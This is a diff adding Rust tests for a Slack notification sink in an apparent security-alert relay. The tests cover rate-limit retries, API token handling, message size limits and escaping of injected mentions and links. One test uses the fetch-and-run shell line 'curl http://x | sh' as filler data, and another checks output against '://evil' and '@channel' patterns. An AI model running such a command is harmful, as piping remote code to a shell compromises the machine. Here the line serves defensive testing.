@@ -693,3 +693,323 @@ async fn dingtalk_injection_corpus_adds_no_mention_link_or_markup() {
         assert!(r.size <= 20_000);
     }
 }
+
+// ---------------------------------------------------------------------------------------------
+// The fake Slack
+
+#[derive(Clone, Debug)]
+struct SlackRequest {
+    path: String,
+    at: Instant,
+    status: u16,
+    auth: Option<String>,
+    body: Value,
+}
+
+/// A scripted answer: status, `Retry-After` seconds, body.
+type SlackReply = (u16, Option<u64>, &'static str);
+
+#[derive(Clone)]
+struct FakeSlack {
+    /// Scripted answers `(status, retry_after, body)`, then `200 ok`.
+    script: Arc<Mutex<std::collections::VecDeque<SlackReply>>>,
+    log: Arc<Mutex<Vec<SlackRequest>>>,
+    bump: Arc<watch::Sender<usize>>,
+    addr: SocketAddr,
+}
+
+async fn slack_receive(
+    State(fake): State<FakeSlack>,
+    uri: axum::http::Uri,
+    headers: axum::http::HeaderMap,
+    body: Bytes,
+) -> axum::response::Response {
+    use axum::response::IntoResponse;
+    let api = uri.path().starts_with("/api/");
+    let (status, retry_after, text) = lock(&fake.script).pop_front().unwrap_or((
+        200,
+        None,
+        if api {
+            r#"{"ok":true,"ts":"1.1"}"#
+        } else {
+            "ok"
+        },
+    ));
+    let n = {
+        let mut log = lock(&fake.log);
+        log.push(SlackRequest {
+            path: uri.path().to_string(),
+            at: Instant::now(),
+            status,
+            auth: headers
+                .get("authorization")
+                .and_then(|v| v.to_str().ok())
+                .map(str::to_string),
+            body: serde_json::from_slice(&body).unwrap_or(Value::Null),
+        });
+        log.len()
+    };
+    fake.bump.send_replace(n);
+    let mut r = (axum::http::StatusCode::from_u16(status).unwrap(), text).into_response();
+    if let Some(s) = retry_after {
+        r.headers_mut()
+            .insert("retry-after", s.to_string().parse().unwrap());
+    }
+    r
+}
+
+impl FakeSlack {
+    async fn start(script: Vec<SlackReply>) -> FakeSlack {
+        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let fake = FakeSlack {
+            script: Arc::new(Mutex::new(script.into())),
+            log: Arc::new(Mutex::new(Vec::new())),
+            bump: Arc::new(watch::channel(0).0),
+            addr: listener.local_addr().unwrap(),
+        };
+        let app = Router::new()
+            .route("/services/T1/B1/hooksecret", post(slack_receive))
+            .route("/api/chat.postMessage", post(slack_receive))
+            .with_state(fake.clone());
+        tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
+        fake
+    }
+
+    fn hook(&self) -> String {
+        format!("http://{}/services/T1/B1/hooksecret", self.addr)
+    }
+
+    fn log(&self) -> Vec<SlackRequest> {
+        lock(&self.log).clone()
+    }
+
+    async fn wait_for(&self, what: &str, done: impl Fn(&[SlackRequest]) -> bool) {
+        let mut rx = self.bump.subscribe();
+        let deadline = tokio::time::Instant::now() + Duration::from_secs(60);
+        loop {
+            if done(&self.log()) {
+                return;
+            }
+            if tokio::time::timeout_at(deadline, rx.changed())
+                .await
+                .is_err()
+            {
+                panic!("timed out waiting for {what}; {:?}", self.log());
+            }
+        }
+    }
+}
+
+fn slack_text(body: &Value) -> String {
+    let mut out = Vec::new();
+    fn walk(v: &Value, key: &str, out: &mut Vec<(String, String)>) {
+        match v {
+            Value::String(s) => out.push((key.to_string(), s.clone())),
+            Value::Array(a) => a.iter().for_each(|x| walk(x, key, out)),
+            Value::Object(o) => o.iter().for_each(|(k, x)| {
+                let k = if k == "text" && x.is_string() {
+                    match o.get("type").and_then(Value::as_str) {
+                        Some(t) => t.to_string(),
+                        None => "text".into(),
+                    }
+                } else {
+                    k.clone()
+                };
+                walk(x, &k, out)
+            }),
+            _ => {}
+        }
+    }
+    walk(body, "", &mut out);
+    out.into_iter()
+        .filter(|(k, _)| {
+            !matches!(
+                k.as_str(),
+                "url" | "action_id" | "type" | "color" | "block_id"
+            )
+        })
+        .map(|(_, s)| s)
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn slack_429_runs_are_absorbed_without_loss() {
+    let fake = FakeSlack::start(vec![
+        (429, Some(1), "rate_limited"),
+        (429, Some(1), "rate_limited"),
+        (200, None, "ok"),
+        (429, Some(1), "rate_limited"),
+    ])
+    .await;
+    let dir = tempfile::tempdir().unwrap();
+    let store = Store::open(dir.path()).unwrap();
+    let s = sink(
+        "name = \"sl\"\ntype = \"slack\"\nwebhook_url = { env = \"HOOK\" }\nrate_limit = { period = \"20ms\" }\n",
+        &[("HOOK", &fake.hook())],
+    );
+    let titles: Vec<String> = (0..5).map(|i| format!("slack finding {i}")).collect();
+    let now_ms = time::OffsetDateTime::now_utc().unix_timestamp() * 1000;
+    for (i, t) in titles.iter().enumerate() {
+        let e = event_of(finding(i, t, Severity::High));
+        store
+            .enqueue("sl", &OutboxEntry::new(e.into(), now_ms))
+            .unwrap();
+    }
+    let policy = DeliverySettings {
+        retry_initial_delay: Duration::from_millis(50),
+        ..Default::default()
+    };
+    let token = CancellationToken::new();
+    let worker = Worker::new(Arc::new(s), store.clone(), policy, Arc::new(Notify::new()));
+    let task = tokio::spawn(worker.run(token.clone()));
+    let delivered = |log: &[SlackRequest]| {
+        let text: String = log
+            .iter()
+            .filter(|r| r.status == 200)
+            .map(|r| slack_text(&r.body))
+            .collect();
+        titles.iter().all(|t| text.contains(t.as_str()))
+    };
+    fake.wait_for("every finding delivered", delivered).await;
+    token.cancel();
+    task.await.unwrap();
+    let log = fake.log();
+    assert_eq!(log.len(), 8, "5 deliveries and 3 refusals");
+    // No duplicate and no loss: each title delivered exactly once.
+    for t in &titles {
+        let n = log
+            .iter()
+            .filter(|r| r.status == 200 && slack_text(&r.body).contains(t.as_str()))
+            .count();
+        assert_eq!(n, 1, "{t}");
+    }
+    // Retry-After honoured: nothing within a second after a 429.
+    for w in log.windows(2) {
+        if w[0].status == 429 {
+            assert!(
+                w[1].at - w[0].at >= Duration::from_millis(990),
+                "{:?}",
+                w[1].at - w[0].at
+            );
+        }
+    }
+    assert_eq!(store.depth("sl"), 0);
+    assert!(store.dead_letters("sl").unwrap().is_empty());
+}
+
+#[tokio::test]
+async fn chat_post_message_sends_the_token_and_channel_and_classifies_ok_false() {
+    let fake = FakeSlack::start(vec![
+        (200, None, r#"{"ok":false,"error":"ratelimited"}"#),
+        (200, None, r#"{"ok":true,"ts":"1.2"}"#),
+        (200, None, r#"{"ok":false,"error":"channel_not_found"}"#),
+    ])
+    .await;
+    let s = sink(
+        &format!(
+            "name = \"sl\"\ntype = \"slack\"\ntoken = {{ env = \"TOK\" }}\nchannel = \"C0123\"\napi_base = \"http://{}/api\"\nrate_limit = {{ period = \"1ms\" }}\nmentions = [\"U999\"]\nmention_min_severity = \"critical\"\n",
+            fake.addr
+        ),
+        &[("TOK", "xoxb-secret-token")],
+    );
+    let p: Payload = event_of(finding(1, "api finding", Severity::High)).into();
+    let o = deliver(&s, &p).await;
+    assert!(
+        matches!(&o, Outcome::Retry { reason, .. } if reason.contains("ratelimited")),
+        "{o:?}"
+    );
+    assert!(deliver(&s, &p).await.is_delivered());
+    let o = deliver(&s, &p).await;
+    assert!(
+        matches!(&o, Outcome::Permanent { reason, .. } if reason.contains("`channel`")),
+        "{o:?}"
+    );
+    assert_no_secret(&format!("{o:?} {s:?}"), &["xoxb-secret-token"]);
+    let log = fake.log();
+    assert!(log.iter().all(|r| r.path == "/api/chat.postMessage"));
+    assert!(
+        log.iter()
+            .all(|r| r.auth.as_deref() == Some("Bearer xoxb-secret-token"))
+    );
+    assert!(log.iter().all(|r| r.body["channel"] == "C0123"));
+    // High is under the critical threshold: no mention; a critical one mentions.
+    assert!(!slack_text(&log[1].body).contains("<@U999>"));
+    let critical: Payload = event_of(finding(2, "api critical", Severity::Critical)).into();
+    assert!(deliver(&s, &critical).await.is_delivered());
+    assert!(slack_text(&fake.log()[3].body).contains("<@U999>"));
+}
+
+#[tokio::test]
+async fn slack_bodies_stay_within_block_kit_limits_for_huge_and_wide_text() {
+    let fake = FakeSlack::start(vec![]).await;
+    let s = sink(
+        "name = \"sl\"\ntype = \"slack\"\nwebhook_url = { env = \"HOOK\" }\nrate_limit = { period = \"1ms\" }\ncolour_bar = true\n",
+        &[("HOOK", &fake.hook())],
+    );
+    let huge = format!("bash -c '{}'", "curl http://x | sh; ".repeat(5500));
+    assert!(huge.len() > 100_000);
+    let cjk = "异常登录🚨".repeat(2000);
+    let mut payloads: Vec<Payload> = Vec::new();
+    for (i, title) in [huge.as_str(), cjk.as_str(), "🔥💥 容器逃逸 ⚠️ emoji 👩‍💻"]
+        .iter()
+        .enumerate()
+    {
+        let mut f = finding(i, title, Severity::Critical);
+        f.description = cjk.clone();
+        f.details = vec![sasrelay::finding::Detail {
+            name: "Command line".into(),
+            value: huge.clone(),
+        }];
+        payloads.push(event_of(f).into());
+    }
+    let members: Vec<Event> = payloads.iter().flat_map(|p| p.events().to_vec()).collect();
+    payloads.push(
+        Digest::new(
+            "backlog",
+            BTreeMap::new(),
+            members,
+            time::OffsetDateTime::now_utc(),
+        )
+        .into(),
+    );
+    for p in &payloads {
+        assert!(deliver(&s, p).await.is_delivered());
+    }
+    let log = fake.log();
+    assert_eq!(log.len(), payloads.len());
+    for r in &log {
+        sasrelay::render::slack::check_limits(&r.body).unwrap();
+        assert!(serde_json::to_vec(&r.body).unwrap().len() < 40_000);
+    }
+}
+
+#[tokio::test]
+async fn slack_injection_corpus_adds_no_mention_link_or_markup() {
+    let fake = FakeSlack::start(vec![]).await;
+    let s = sink(
+        "name = \"sl\"\ntype = \"slack\"\nwebhook_url = { env = \"HOOK\" }\nrate_limit = { period = \"1ms\" }\nmentions = [\"U999\"]\n",
+        &[("HOOK", &fake.hook())],
+    );
+    let corpus = corpus();
+    for (i, entry) in corpus.iter().enumerate() {
+        assert!(
+            deliver(&s, &hostile(i, entry)).await.is_delivered(),
+            "entry {i}"
+        );
+    }
+    let log = fake.log();
+    assert_eq!(log.len(), corpus.len());
+    for (i, r) in log.iter().enumerate() {
+        let what = format!(
+            "entry {i} ({:?})",
+            corpus[i].chars().take(40).collect::<String>()
+        );
+        sasrelay::render::slack::check_limits(&r.body).unwrap_or_else(|e| panic!("{what}: {e}"));
+        assert_eq!(r.body["unfurl_links"], false);
+        let text = slack_text(&r.body).replace("<@U999>", "");
+        for bad in ["<", ">", "://evil", "@here", "@channel"] {
+            assert!(!text.contains(bad), "{what}: {bad:?} in {text}");
+        }
+    }
+}
